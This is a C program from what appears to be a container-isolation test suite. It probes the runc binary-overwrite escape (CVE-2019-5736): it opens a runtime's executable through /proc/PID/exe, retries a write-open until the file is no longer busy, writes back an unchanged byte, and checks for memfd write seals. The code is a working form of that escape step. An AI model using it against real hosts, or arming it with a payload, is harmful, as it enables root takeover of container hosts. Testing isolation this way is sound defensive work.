/*
 * Idea: /proc/PID/exe of a process of the runtime leads to the runtime's own file on the host. Open it, wait until
 * nobody executes it any more (ETXTBSY ends), and write: the next container starts our code, as root, outside.
 * Incident: CVE-2019-5736 (runc).
 * Success: a byte could be written to a runtime's executable (the same byte that was there), or only its being
 * executed right now stands in the way.
 * Usage: runtime-overwrite PID... | --descriptor N
 */
#include "attempt.h"

#ifndef F_SEAL_WRITE
#include <linux/fcntl.h>
#endif

static void overwrite(int executable, const char *name) {
  char byte, again[32];
  snprintf(again, sizeof again, "/proc/self/fd/%d", executable);
  if (pread(executable, &byte, 1, 0) != 1) {
    stopped("read %s", name);
    return;
  }
  int writable = -1;
  for (int tries = 0; tries < 80 && writable < 0; tries++) {
    writable = open(again, O_WRONLY | O_CLOEXEC);
    if (writable < 0 && errno != ETXTBSY) break;
    if (writable < 0) usleep(25000);
  }
  if (writable >= 0) {
    if (pwrite(writable, &byte, 1, 0) == 1) escaped("wrote to the executable behind %s", name);
    stopped("write %s", name);
    return;
  }
  int error = errno, busy = error == ETXTBSY, seals = fcntl(executable, F_GET_SEALS);
  if (busy && (seals < 0 || !(seals & F_SEAL_WRITE)))
    escaped("%s is not sealed: it can be written as soon as it is not being executed", name);
  errno = error;
  stopped("open %s for writing%s", name, seals > 0 ? " (sealed)" : "");
}

int main(int argc, char **argv) {
  argument(argc, argv, 1, "the process ids of the runtime");
  if (argc == 3 && strcmp(argv[1], "--descriptor") == 0) {
    overwrite(atoi(argv[2]), "/proc/self/exe");
    contained();
  }
  for (int i = 1; i < argc; i++) {
    char name[64];
    snprintf(name, sizeof name, "/proc/%s/exe", argv[i]);
    int executable = open(name, O_RDONLY | O_CLOEXEC);
    if (executable < 0) stopped("open %s", name);
    else overwrite(executable, name);
  }
  contained();
}
